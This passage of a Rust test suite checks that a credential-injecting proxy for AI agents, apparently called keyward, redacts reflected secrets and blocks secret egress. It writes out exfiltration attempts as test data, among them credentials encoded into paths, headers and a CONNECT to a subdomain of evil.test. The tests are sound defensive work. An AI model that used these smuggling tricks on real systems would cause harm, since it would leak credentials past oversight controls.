//! Leaks (I4): an upstream that reflects the injected credential — in headers, in a body
//! streamed in tiny frames, base64- or percent-encoded, in trailers, in a redirect, compressed —
//! never hands it to the agent; a real credential value sent by the agent, in any spelling, is
//! refused as `secret_egress`; keyward's own answers, logs and audit records carry no secret.

use std::time::Duration;

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine as _;
use http_body_util::BodyExt;
use serde_json::json;

use crate::common::{
    basic, bounded, connect_raw, h2_send, http_response, plain_fixture_at, plain_services_at,
    tls_services_at, Fixture, Harness, Reply, ScriptUpstream, Task,
};
use crate::headers::{allowed_record, h2_req, raw_req, raw_req_at, tunnel_tls_at};

const REDACTED: &str = "keyward_secrets_redacted_total{service=\"plain\"}";

/// The value a reflecting upstream found in the request's `Authorization` (or `x-api-key`).
fn injected(req: &crate::common::RawSeen) -> String {
    req.header("authorization")
        .or_else(|| req.header("x-api-key"))
        .unwrap_or_default()
}

fn chunked_head(extra: &str) -> Vec<u8> {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n{extra}Transfer-Encoding: chunked\r\n\r\n"
    )
    .into_bytes()
}

fn chunk(data: &[u8]) -> Vec<u8> {
    let mut out = format!("{:x}\r\n", data.len()).into_bytes();
    out.extend_from_slice(data);
    out.extend_from_slice(b"\r\n");
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_reflected_in_one_byte_frames_is_redacted() {
    let script = ScriptUpstream::start(|req| {
        let body = format!("before {} after", injected(req));
        let mut parts = vec![chunked_head("")];
        parts.extend(body.as_bytes().iter().map(|b| chunk(&[*b])));
        parts.push(b"0\r\n\r\n".to_vec());
        Reply::frames(parts, Duration::from_millis(1))
    })
    .await;
    let port = script.port();
    let (f, task) = plain_fixture_at(&script).await;
    let kw = &f.kw;
    let resp = kw
        .raw(&raw_req_at(
            port,
            "GET",
            "plain.test",
            "/reflect-auth",
            &task,
            "",
        ))
        .await;
    assert_eq!(resp.status, 200);
    assert_eq!(
        String::from_utf8_lossy(&resp.body),
        "before Bearer [redacted] after"
    );
    assert_eq!(kw.metric(REDACTED).await, Some(1.0));
    let rec = allowed_record(kw, &task, "/reflect-auth").await;
    assert_eq!(rec["status"], 200);
    kw.assert_no_leaks().await;
}

/// An upstream that pauses in the middle of a reflected credential (TCP slow start on a long
/// path, a stall the agent causes by reading slowly, or on purpose): the held-back part is
/// not let go during the pause, whatever its length and wherever the agent placed the split.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_split_across_a_long_upstream_pause_is_redacted() {
    let script = ScriptUpstream::start(|req| {
        let auth = injected(req);
        let split: usize = req
            .header("x-split")
            .and_then(|s| s.parse().ok())
            .unwrap_or(1);
        let (a, b) = auth.split_at(split.min(auth.len()));
        Reply::frames(
            vec![
                chunked_head(""),
                chunk(format!("event: echo\ndata: {a}").as_bytes()),
                chunk(format!("{b}\n\n").as_bytes()),
                b"0\r\n\r\n".to_vec(),
            ],
            Duration::from_millis(150),
        )
    })
    .await;
    let port = script.port();
    let (f, task) = plain_fixture_at(&script).await;
    let kw = &f.kw;
    let len = "Bearer ".len() + f.creds.api_token.len();
    for split in ["Bearer ".len() + 1, len / 2, len - 1] {
        let resp = kw
            .raw(&raw_req_at(
                port,
                "GET",
                "plain.test",
                "/reflect-auth",
                &task,
                &format!("X-Split: {split}\r\n"),
            ))
            .await;
        assert_eq!(resp.status, 200, "{}", resp.text());
        assert_eq!(
            String::from_utf8_lossy(&resp.body),
            "event: echo\ndata: Bearer [redacted]\n\n",
            "split at {split}"
        );
    }
    kw.assert_no_leaks().await;
}

/// keyward in front of a script upstream that answers every request with `parts`, `gap`
/// apart, then keeps the connection; a task of `bot`, and an agent connection on which it sent
/// a credentialed GET.
async fn stream_from(
    parts: Vec<Vec<u8>>,
    gap: Duration,
) -> (ScriptUpstream, Fixture, Task, tokio::net::TcpStream) {
    use tokio::io::AsyncWriteExt;
    let script = ScriptUpstream::start(move |_| Reply::frames(parts.clone(), gap)).await;
    let port = script.port();
    let f = Fixture::start_with(|p| plain_services_at(p, port)).await;
    let task = f.kw.mint("bot", json!(["plain.issues.read"])).await;
    let mut tcp = tokio::net::TcpStream::connect(f.kw.proxy_addr)
        .await
        .unwrap();
    let head = raw_req_at(port, "GET", "plain.test", "/reflect-auth", &task, "");
    tcp.write_all(head.as_bytes()).await.unwrap();
    (script, f, task, tcp)
}

/// Reads (bounded) until what arrived holds `until`; what arrived.
async fn read_until(tcp: &mut tokio::net::TcpStream, until: &[u8]) -> Vec<u8> {
    use tokio::io::AsyncReadExt;
    let mut seen = Vec::new();
    let mut buf = [0u8; 4096];
    while !seen.windows(until.len()).any(|w| w == until) {
        let n = bounded("the stream", tcp.read(&mut buf)).await.unwrap();
        assert!(n > 0, "closed: {}", String::from_utf8_lossy(&seen));
        seen.extend_from_slice(&buf[..n]);
    }
    seen
}

/// What the redactor holds back goes out up to the last byte no spelling of the credential
/// holds: a binary stream (gRPC's length prefixes, protobuf tags) through a credentialed
/// route is not held back to its next message, however long the upstream is quiet.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_binary_stream_is_not_held_back_to_its_next_message() {
    // One length-prefixed message (protobuf: field 1 = "ok", field 2 = 1), then the upstream
    // keeps the stream open and says nothing more.
    let message = b"\x00\x00\x00\x00\x06\x0a\x02ok\x10\x01".to_vec();
    let parts = vec![chunked_head(""), chunk(&message)];
    let (_script, f, _task, mut tcp) = stream_from(parts, Duration::from_millis(100)).await;
    // The message's last bytes (`\x10\x01`, which no chunk framing holds) arrive while the
    // stream is open and quiet (keyward may re-chunk a message: its bytes are not looked for
    // whole).
    read_until(&mut tcp, b"\x10\x01").await;
    f.kw.assert_no_leaks().await;
}

/// An operator's revocation cuts a response stream the upstream is quiet on at once, not at
/// its next frame (which may be minutes away on an event stream); its record says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn revocation_cuts_a_quiet_stream_at_once() {
    use tokio::io::AsyncReadExt;
    let parts = vec![
        chunked_head("Content-Type: text/event-stream\r\n"),
        chunk(b"data: first\n\n"),
        chunk(b"data: second, 3 s later\n\n"),
    ];
    let (_script, f, task, mut tcp) = stream_from(parts, Duration::from_secs(3)).await;
    let kw = &f.kw;
    read_until(&mut tcp, b"data: first").await;
    kw.revoke(&task.id).await;
    // The stream ends well before the upstream's next event would have come.
    let rest = tokio::time::timeout(Duration::from_millis(1500), async {
        let mut rest = Vec::new();
        let _ = tcp.read_to_end(&mut rest).await;
        rest
    })
    .await
    .expect("the quiet stream was not cut at the revocation");
    assert!(
        !String::from_utf8_lossy(&rest).contains("second"),
        "{}",
        String::from_utf8_lossy(&rest)
    );
    let rec = kw
        .audit_where("the cut stream", |r| r["path"] == "/reflect-auth")
        .await;
    assert_eq!(rec["outcome"], "task_revoked", "{rec}");
    kw.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_reflected_base64_and_percent_encoded_in_headers_and_body_is_redacted() {
    let script = ScriptUpstream::start(|req| {
        let auth = injected(req);
        let secret = auth.trim_start_matches("Bearer ").to_string();
        let pct: String = secret
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect();
        let body = format!(
            "raw={secret}\nb64={}\nb64nopad={}\nurl={}\npct={pct}\nsplit-frame-next:",
            STANDARD.encode(&secret),
            STANDARD.encode(&secret).trim_end_matches('='),
            URL_SAFE_NO_PAD.encode(&secret),
        );
        let headers = [
            format!("X-Echo: {auth}"),
            format!("X-Echo-B64: {}", STANDARD.encode(&secret)),
            format!("Set-Cookie: s={}; Path=/", URL_SAFE_NO_PAD.encode(&secret)),
            format!("Link: <https://x/?k={pct}>"),
        ];
        let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
        // A second frame carries the rest of a secret split across the frame boundary.
        let mut first = http_response("200 OK", &headers, b"");
        first.truncate(first.len() - b"Content-Length: 0\r\n\r\n".len());
        let (a, b) = secret.split_at(secret.len() / 2);
        let tail = format!("{a}{b}\n");
        let len = body.len() + tail.len();
        first.extend(format!("Content-Length: {len}\r\n\r\n{body}{a}").into_bytes());
        Reply::frames(
            vec![first, b.as_bytes().to_vec(), b"\n".to_vec()],
            Duration::from_millis(20),
        )
    })
    .await;
    let port = script.port();
    let (f, task) = plain_fixture_at(&script).await;
    let kw = &f.kw;
    let resp = kw
        .raw(&raw_req_at(
            port,
            "GET",
            "plain.test",
            "/reflect-auth",
            &task,
            "",
        ))
        .await;
    assert_eq!(resp.status, 200, "{}", resp.text());
    let body = String::from_utf8_lossy(&resp.body).into_owned();
    for line in body.lines() {
        if let Some((_, v)) = line.split_once('=') {
            assert_eq!(v, "[redacted]", "{line}");
        }
    }
    assert!(body.ends_with("split-frame-next:[redacted]\n"), "{body}");
    assert_eq!(resp.header("x-echo").as_deref(), Some("Bearer [redacted]"));
    assert_eq!(resp.header("x-echo-b64").as_deref(), Some("[redacted]"));
    let b64 = STANDARD.encode(&f.creds.api_token);
    let url = URL_SAFE_NO_PAD.encode(&f.creds.api_token);
    let text = resp.text();
    for form in [
        &f.creds.api_token,
        &b64,
        &url,
        &b64.trim_end_matches('=').to_string(),
    ] {
        assert!(
            !text.contains(form.as_str()),
            "a form of the secret reached the agent"
        );
    }
    let n = kw.metric(REDACTED).await.unwrap_or(0.0);
    assert!(n >= 9.0, "redactions counted: {n}");
    kw.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_reflected_in_trailers_is_redacted_for_an_http2_agent() {
    let ca = crate::common::TestCa::new();
    let script = ScriptUpstream::tls(&ca, &["secure.test"], |req| {
        let key = injected(req);
        let mut parts = chunked_head("Trailer: X-Echo-Key\r\n");
        parts.extend(chunk(b"body"));
        parts.extend(
            format!("0\r\nX-Echo-Key: {key}\r\nX-Plain: fine\r\nContent-Encoding: gzip\r\nSet-Cookie: s=1\r\nConnection: x\r\nKeep-Alive: 5\r\nAlt-Svc: h3=\":443\"\r\nHost: evil.test\r\n\r\n")
                .into_bytes(),
        );
        Reply::bytes(parts)
    })
    .await;
    let port = script.port();
    let f = Fixture::start_with(|p| tls_services_at(p, port)).await;
    // The scripted upstream has its own CA: trust it instead of the fixture's.
    std::fs::write(f.kw.path("upstream-ca.pem"), &ca.pem).unwrap();
    let (status, _) = f.kw.admin(http::Method::POST, "/v1/reload", None).await;
    assert_eq!(status, 200);
    let kw = &f.kw;
    let task = kw.mint("bot", json!(["secure.read"])).await;
    let tls = tunnel_tls_at(&f, &task, "secure.test", port, &[b"h2"]).await;
    let mut conn = crate::common::h2_over(tls).await;
    // h2_send drops trailers; read the body frames by hand.
    let uri = format!("https://secure.test:{port}/reflect-auth");
    bounded("ready", conn.ready()).await.unwrap();
    let resp = bounded("response", conn.send_request(h2_req("GET", &uri, b"")))
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let collected = bounded("body", resp.into_body().collect()).await.unwrap();
    let trailers = collected.trailers().cloned().unwrap_or_default();
    let body = collected.to_bytes();
    kw.saw(&format!("{trailers:?}\n{}", String::from_utf8_lossy(&body)));
    assert_eq!(&body[..], b"body");
    assert_eq!(
        trailers.get("x-echo-key").map(|v| v.to_str().unwrap()),
        Some("[redacted]"),
        "{trailers:?}"
    );
    assert_eq!(trailers.get("x-plain").unwrap(), "fine");
    // A coding announced after the body cannot apply to it: dropped, not relayed.
    assert!(trailers.get("content-encoding").is_none(), "{trailers:?}");
    // Nor does a session opened for the credential reach the agent after the body.
    assert!(trailers.get("set-cookie").is_none(), "{trailers:?}");
    // Nor connection-specific fields (in HTTP/2 trailers a protocol error: the stream would
    // be reset), routing data, or an invitation around keyward.
    for name in ["connection", "keep-alive", "alt-svc", "host"] {
        assert!(trailers.get(name).is_none(), "{name}: {trailers:?}");
    }
    assert_eq!(script.hits(), 1);
    // The trailers were the response's last frame: it completed (the agent did not hang up).
    let rec = crate::headers::allowed_record(kw, &task, "/reflect-auth").await;
    assert_eq!(rec["outcome"], "completed", "{rec}");
    assert_eq!(rec["bytes_down"], 4, "{rec}");
    assert_eq!(
        kw.metric_settled("keyward_secrets_redacted_total{service=\"secure\"}", 1.0)
            .await,
        Some(1.0)
    );
    kw.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn query_and_basic_credentials_reflected_in_a_redirect_and_a_bodiless_answer_are_redacted() {
    let script = ScriptUpstream::start(|req| {
        let line = req.request_line().to_string();
        let target = line.split(' ').nth(1).unwrap_or("").to_string();
        if line.starts_with("HEAD") {
            // A bodiless answer still has headers.
            let auth = injected(req);
            Reply::bytes(
                format!("HTTP/1.1 200 OK\r\nX-Echo: {auth}\r\nContent-Length: 10\r\n\r\n")
                    .into_bytes(),
            )
        } else if target.starts_with("/whoami") {
            Reply::bytes(
                format!(
                    "HTTP/1.1 204 No Content\r\nX-Echo: {}\r\n\r\n",
                    injected(req)
                )
                .into_bytes(),
            )
        } else {
            Reply::bytes(http_response(
                "302 Found",
                &[&format!("Location: https://elsewhere.test{target}")],
                b"",
            ))
        }
    })
    .await;
    let port = script.port();
    let f = Fixture::start_with(|p| {
        plain_services_at(p, port).replace("routes: [GET /whoami]", "routes: [GET|HEAD /whoami]")
    })
    .await;
    let kw = &f.kw;
    let task = kw
        .mint("bot", json!(["query.search", "basic.whoami"]))
        .await;
    let resp = kw
        .raw(&raw_req_at(
            port,
            "GET",
            "query.test",
            "/search?q=1",
            &task,
            "",
        ))
        .await;
    assert_eq!(resp.status, 302);
    let location = resp.header("location").unwrap();
    assert!(location.contains("api_key=[redacted]"), "{location}");
    assert!(script.seen()[0].request_line().contains(&f.creds.query_key));

    let resp = kw
        .raw(&raw_req_at(port, "GET", "basic.test", "/whoami", &task, ""))
        .await;
    assert_eq!(resp.status, 204);
    assert_eq!(resp.header("x-echo").as_deref(), Some("Basic [redacted]"));

    let resp = kw
        .raw(&raw_req_at(
            port,
            "HEAD",
            "basic.test",
            "/whoami",
            &task,
            "",
        ))
        .await;
    assert_eq!(resp.status, 200);
    assert_eq!(resp.header("x-echo").as_deref(), Some("Basic [redacted]"));
    // A HEAD answer keeps the length the GET would have, and its record is complete.
    assert_eq!(resp.header("content-length").as_deref(), Some("10"));
    let rec = kw.audit_where("the HEAD", |r| r["method"] == "HEAD").await;
    assert_eq!(rec["outcome"], "completed", "{rec}");
    assert_eq!(script.hits(), 3);
    kw.assert_no_leaks().await;
}

/// Deflate with fixed Huffman codes, literals only: no byte of the input survives as is.
fn gzip_fixed_huffman(data: &[u8]) -> Vec<u8> {
    struct Bits {
        out: Vec<u8>,
        acc: u32,
        n: u32,
    }
    impl Bits {
        fn put(&mut self, value: u32, len: u32) {
            self.acc |= value << self.n;
            self.n += len;
            while self.n >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.n -= 8;
            }
        }
        /// Huffman codes go most significant bit first.
        fn code(&mut self, code: u32, len: u32) {
            for i in (0..len).rev() {
                self.put((code >> i) & 1, 1);
            }
        }
    }
    let mut bits = Bits {
        out: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff],
        acc: 0,
        n: 0,
    };
    bits.put(1, 1); // BFINAL
    bits.put(1, 2); // BTYPE = fixed Huffman
    for &b in data {
        if b < 144 {
            bits.code(0x30 + u32::from(b), 8);
        } else {
            bits.code(0x190 + u32::from(b) - 144, 9);
        }
    }
    bits.code(0, 7); // end of block
    if bits.n > 0 {
        bits.out.push(bits.acc as u8);
    }
    let mut crc = !0u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    let mut out = bits.out;
    out.extend_from_slice(&(!crc).to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_reflected_inside_a_compressed_body_never_reaches_the_agent() {
    let script = ScriptUpstream::start(|req| {
        let gz = gzip_fixed_huffman(format!("you sent: {}\n", injected(req)).as_bytes());
        let line = req.request_line().to_string();
        let bytes = if line.contains("te=gzip") {
            // Transfer-coded instead: hyper removes the chunking, the gzip stays.
            let mut out = chunked_head("").to_vec();
            out = String::from_utf8(out)
                .unwrap()
                .replace(
                    "Transfer-Encoding: chunked",
                    "Transfer-Encoding: gzip, chunked",
                )
                .into_bytes();
            out.extend(chunk(&gz));
            out.extend(b"0\r\n\r\n");
            out
        } else {
            http_response("200 OK", &["Content-Encoding: gzip"], &gz)
        };
        Reply::bytes(bytes)
    })
    .await;
    let port = script.port();
    let (f, task) = plain_fixture_at(&script).await;
    let kw = &f.kw;
    let secret_gz =
        gzip_fixed_huffman(format!("you sent: Bearer {}\n", f.creds.api_token).as_bytes());
    for path in ["/reflect-auth?ce=gzip", "/reflect-auth?te=gzip"] {
        let resp = kw
            .raw(&raw_req_at(
                port,
                "GET",
                "plain.test",
                path,
                &task,
                "Accept-Encoding: gzip, br\r\n",
            ))
            .await;
        // keyward asked for an unencoded response on a credentialed request…
        let seen = script.seen();
        let last = seen.last().unwrap();
        assert_eq!(
            last.header_all("accept-encoding"),
            vec!["identity".to_string()]
        );
        // …and an upstream that encodes anyway is not relayed: the agent could decode it.
        assert!(
            !resp
                .body
                .windows(secret_gz.len())
                .any(|w| w == secret_gz.as_slice()),
            "{path}: the compressed credential reached the agent"
        );
        assert_eq!(resp.status, 502, "{path}: {}", resp.text());
        let problem: serde_json::Value = serde_json::from_slice(&resp.body).unwrap();
        let rec = kw.audit_for(problem["request_id"].as_str().unwrap()).await;
        assert_eq!(rec["reason"], "allowed", "{rec}");
        assert_eq!(rec["status"], 502, "{rec}");
    }
    kw.assert_no_leaks().await;
}

/// SECURITY (I4): an upstream that echoes what it got cut short ("bad key: <first N bytes>")
/// would hand the agent all but the credential's last characters, and `secret_egress` would
/// tell it which guess at the rest is right. A reflection cut short that keeps a third of the
/// credential at either end is replaced, in a header and in the body, at its end and inside it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_echoed_cut_short_is_redacted() {
    let script = ScriptUpstream::start(|req| {
        let echo = injected(req);
        let cut = &echo[..echo.len() - 1];
        let body = format!("{{\"error\":\"bad key: {cut}\",\"hint\":\"x\"}}\nbad key: {cut}");
        let header = format!("X-Bad-Key: {cut}");
        Reply::bytes(http_response(
            "401 Unauthorized",
            &[&header],
            body.as_bytes(),
        ))
    })
    .await;
    let port = script.port();
    let (f, task) = plain_fixture_at(&script).await;
    let kw = &f.kw;
    let resp = kw
        .raw(&raw_req_at(
            port,
            "GET",
            "plain.test",
            "/reflect-auth",
            &task,
            "",
        ))
        .await;
    assert_eq!(resp.status, 401, "{}", resp.text());
    assert_eq!(
        resp.header("x-bad-key").as_deref(),
        Some("Bearer [redacted]")
    );
    // (Inside the JSON, the byte after the cut goes with it: as many bytes as the whole
    // credential are replaced, whatever follows.)
    assert_eq!(
        String::from_utf8_lossy(&resp.body),
        "{\"error\":\"bad key: Bearer [redacted],\"hint\":\"x\"}\nbad key: Bearer [redacted]"
    );
    let key = &f.creds.api_token;
    assert!(!resp.text().contains(&key[..key.len() / 2 + 1]));
    kw.assert_no_leaks().await;
}

/// SECURITY (I4): `Transfer-Encoding: chunked, identity` (or `chunked` and `identity` in two
/// headers) makes the body run to the connection's close with its chunk lines left in; a
/// credential echoed over two chunks would reach the agent as two halves around a chunk-size
/// line. `chunked` must be the only transfer coding of a credentialed response: else 502.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_split_over_chunks_of_a_body_read_to_its_close_never_reaches_the_agent() {
    let script = ScriptUpstream::start(|req| {
        let echo = injected(req);
        let (a, b) = echo.split_at(echo.len() / 2);
        let codings = if req.request_line().contains("two-headers") {
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"
        } else {
            "Transfer-Encoding: chunked, identity"
        };
        let mut out =
            format!("HTTP/1.1 200 OK\r\n{codings}\r\nConnection: close\r\n\r\n").into_bytes();
        out.extend(chunk(a.as_bytes()));
        out.extend(chunk(b.as_bytes()));
        out.extend(b"0\r\n\r\n");
        Reply::bytes(out)
    })
    .await;
    let port = script.port();
    let (f, task) = plain_fixture_at(&script).await;
    let kw = &f.kw;
    let key = &f.creds.api_token;
    let half = &key[..key.len() / 2];
    for path in ["/reflect-auth?one-header", "/reflect-auth?two-headers"] {
        let resp = kw
            .raw(&raw_req_at(port, "GET", "plain.test", path, &task, ""))
            .await;
        assert_eq!(resp.status, 502, "{path}: {}", resp.text());
        assert!(
            !resp.text().contains(half),
            "{path}: part of the credential reached the agent"
        );
        let problem: serde_json::Value = serde_json::from_slice(&resp.body).unwrap();
        // The agent (and whoever reads its logs) is told why.
        assert!(
            problem["detail"]
                .as_str()
                .unwrap()
                .contains("Accept-Encoding: identity"),
            "{problem}"
        );
        let rec = kw.audit_for(problem["request_id"].as_str().unwrap()).await;
        assert_eq!(rec["outcome"], "encoded_response", "{rec}");
    }
    kw.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn real_credential_sent_by_the_agent_in_any_spelling_is_secret_egress() {
    let f = Fixture::start().await;
    let kw = &f.kw;
    let task = kw
        .mint("bot", json!(["plain.issues.read", "basic.whoami"]))
        .await;
    let api = &f.creds.api_token;
    let pct_all: String = api.bytes().map(|b| format!("%{b:02x}")).collect();
    let pct_underscore = api.replace('_', "%5F");
    let cases: Vec<(&str, String, String)> = vec![
        (
            "raw in a path segment",
            format!("/repos/{api}/web/issues"),
            String::new(),
        ),
        (
            "percent-encoded query",
            format!("/echo?k={pct_underscore}"),
            String::new(),
        ),
        (
            "fully percent-encoded query",
            format!("/echo?k={pct_all}"),
            String::new(),
        ),
        (
            "base64 header",
            "/echo".into(),
            format!("X-Note: {}\r\n", STANDARD.encode(api)),
        ),
        (
            "base64url header",
            "/echo".into(),
            format!("X-Note: {}\r\n", URL_SAFE_NO_PAD.encode(api)),
        ),
        (
            "base64 query",
            format!("/echo?t={}", URL_SAFE_NO_PAD.encode(api)),
            String::new(),
        ),
        (
            "another service's Basic pair",
            "/echo".into(),
            format!("X-Forward-Auth: {}\r\n", basic("bot", &f.creds.basic_pw)),
        ),
        (
            "percent-encoded header",
            "/echo".into(),
            format!("Cookie: s={pct_all}\r\n"),
        ),
        ("in the Host header", "/echo".into(), String::new()),
        (
            "as a header name",
            "/echo".into(),
            format!("X-{api}: 1\r\n"),
        ),
    ];
    for (what, path, extra) in cases {
        let req = if what == "in the Host header" {
            raw_req(&f, "GET", "plain.test", &path, &task, "").replacen(
                "Host: plain.test",
                &format!("Host: {api}.plain.test"),
                1,
            )
        } else {
            raw_req(&f, "GET", "plain.test", &path, &task, &extra)
        };
        let resp = kw.raw(&req).await;
        let reason = resp.header("x-keyward-reason");
        // A Host naming another host is refused before the scan; either way nothing is sent.
        if what == "in the Host header" {
            assert!(
                resp.status == 400 || resp.status == 403,
                "{what}: {}",
                resp.text()
            );
            let (_, rec) = kw
                .assert_denied_raw(&resp, resp.status, reason.as_deref().unwrap())
                .await;
            assert!(!rec.to_string().contains(api.as_str()), "{what}: {rec}");
            continue;
        }
        assert_eq!(
            reason.as_deref(),
            Some("secret_egress"),
            "{what}: {}",
            resp.text()
        );
        let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
        assert!(
            !rec.to_string().contains(api.as_str()),
            "{what}: the record carries it: {rec}"
        );
    }
    // Inside a tunnel, over HTTP/2, another service's credential in a header.
    let secure = kw.mint("bot", json!(["secure.read"])).await;
    let tls = crate::headers::tunnel_tls(&f, &secure, "secure.test", &[b"h2"]).await;
    let mut conn = crate::common::h2_over(tls).await;
    let mut req = h2_req("GET", &f.tls_url("secure.test", "/echo"), b"");
    req.headers_mut().insert(
        "x-debug",
        STANDARD.encode(&f.creds.other_token).parse().unwrap(),
    );
    let resp = h2_send(&mut conn, req).await;
    kw.saw(&resp.text());
    kw.assert_denied_raw(&resp, 403, "secret_egress").await;
    // In a Proxy-Authorization inside the tunnel, which keyward drops (the CONNECT
    // authenticated the tunnel): it is in the agent's hands all the same, and named. The
    // task's own token there (clients that send it twice) is no leak.
    let mut req = h2_req("GET", &f.tls_url("secure.test", "/echo"), b"");
    let leaked = crate::common::basic("x", &f.creds.other_token);
    req.headers_mut()
        .insert("proxy-authorization", leaked.parse().unwrap());
    let resp = h2_send(&mut conn, req).await;
    kw.saw(&resp.text());
    let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
    assert_eq!(rec["credential"], "other_token", "{rec}");
    let mut req = h2_req("GET", &f.tls_url("secure.test", "/echo"), b"");
    let own = crate::common::Harness::proxy_auth(&secure);
    req.headers_mut()
        .insert("proxy-authorization", own.parse().unwrap());
    let resp = h2_send(&mut conn, req).await;
    kw.saw(&resp.text());
    assert_eq!(resp.status, 200, "{}", resp.text());
    assert_eq!(f.tls.last().header("proxy-authorization"), None);
    assert_eq!(f.plain.hits(), 0, "a credential left keyward");
    assert_eq!(
        f.tls.hits(),
        1,
        "only the request without a secret went upstream"
    );
    kw.assert_no_leaks().await;
}

/// keyward's own admin token is a secret like a credential (SPEC §7: never in a record): an
/// agent that got hold of it cannot send it out through keyward, and its record keeps none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_admin_token_sent_by_an_agent_is_secret_egress_and_never_recorded() {
    let f = Fixture::start().await;
    let kw = &f.kw;
    let task = kw.mint("bot", json!(["plain.issues.read"])).await;
    let admin = kw.admin_token.clone();
    for (path, extra) in [
        (format!("/repos/{admin}/web/issues"), String::new()),
        (
            "/echo".to_string(),
            format!("X-Note: {}\r\n", STANDARD.encode(&admin)),
        ),
    ] {
        let resp = kw
            .raw(&raw_req(&f, "GET", "plain.test", &path, &task, &extra))
            .await;
        let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
        assert!(!rec.to_string().contains(admin.as_str()), "{rec}");
    }
    assert_eq!(f.plain.hits(), 0, "the admin token left keyward");
    kw.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credential_in_a_connect_authority_is_refused_and_never_recorded() {
    let f = Fixture::start().await;
    let kw = &f.kw;
    let task = kw.mint("bot", json!(["secure.read"])).await;
    let api = f.creds.api_token.to_ascii_lowercase();
    let (_tcp, resp) = connect_raw(
        kw.proxy_addr,
        &format!("{api}.evil.test:443"),
        Some(&Harness::proxy_auth(&task)),
    )
    .await;
    kw.saw(&resp.text());
    let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
    assert_eq!(rec["host"], "[redacted]", "{rec}");
    assert!(!rec.to_string().contains(&api), "{rec}");
    // Without a token too: the leak is named before authentication, and not recorded.
    let (_tcp, resp) = connect_raw(kw.proxy_addr, &format!("{api}.evil.test:443"), None).await;
    kw.saw(&resp.text());
    let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
    assert_eq!(rec["host"], "[redacted]", "{rec}");
    assert_eq!(rec["task"], serde_json::Value::Null, "{rec}");
    assert!(!rec.to_string().contains(&api), "{rec}");
    assert_eq!(
        kw.metric("keyward_tls_leaf_certs_issued_total").await,
        Some(0.0)
    );
    kw.assert_no_leaks().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keywards_own_errors_logs_and_records_carry_no_secret() {
    let f = Fixture::start().await;
    let kw = &f.kw;
    let task = kw
        .mint("bot", json!(["plain.issues.read", "dead.ping"]))
        .await;
    let api = f.creds.api_token.clone();
    // A real credential as the proxy token, as the task id, in a Bearer proxy credential: it
    // failed authentication, and it is named as the leak it is.
    for auth in [
        basic(&task.id, &api),
        basic(&api, &task.token),
        format!("Bearer {api}"),
    ] {
        let req = format!(
            "GET http://plain.test:{0}/echo HTTP/1.1\r\nHost: plain.test:{0}\r\nProxy-Authorization: {auth}\r\nConnection: close\r\n\r\n",
            f.plain.port()
        );
        let resp = kw.raw(&req).await;
        let (_, rec) = kw.assert_denied_raw(&resp, 403, "secret_egress").await;
        assert_eq!(rec["credential"], "api_token", "{rec}");
    }
    // The task's own token where the credential goes: refused, never forwarded.
    let before = f.plain.hits();
    let resp = kw
        .raw(&raw_req(
            &f,
            "GET",
            "plain.test",
            "/echo",
            &task,
            &format!("Authorization: Bearer {}\r\n", task.token),
        ))
        .await;
    kw.assert_denied_raw(&resp, 403, "secret_egress").await;
    assert_eq!(f.plain.hits(), before);
    // A credential as the method: refused (no route has it), and not recorded.
    let resp = kw
        .raw(&raw_req(
            &f,
            &api.to_ascii_uppercase(),
            "plain.test",
            "/echo",
            &task,
            "",
        ))
        .await;
    assert_eq!(resp.status, 403, "{}", resp.text());
    let reason = resp.header("x-keyward-reason").unwrap();
    let (_, rec) = kw.assert_denied_raw(&resp, 403, &reason).await;
    assert!(
        !rec.to_string()
            .to_ascii_lowercase()
            .contains(&api.to_ascii_lowercase()),
        "{rec}"
    );
    let resp = kw
        .raw(&raw_req(&f, &api, "plain.test", "/echo", &task, ""))
        .await;
    let reason = resp.header("x-keyward-reason").unwrap();
    let (_, rec) = kw.assert_denied_raw(&resp, 403, &reason).await;
    assert!(!rec.to_string().contains(&api), "{rec}");
    // Upstream failures: the problem documents carry no secret either.
    let resp = kw
        .raw(&format!(
            "GET http://dead.test:{0}/ping HTTP/1.1\r\nHost: dead.test:{0}\r\nProxy-Authorization: {1}\r\nConnection: close\r\n\r\n",
            f.dead_port,
            Harness::proxy_auth(&task)
        ))
        .await;
    assert_eq!(resp.status, 502);
    // Metrics after hostile input name no task, token, path or query.
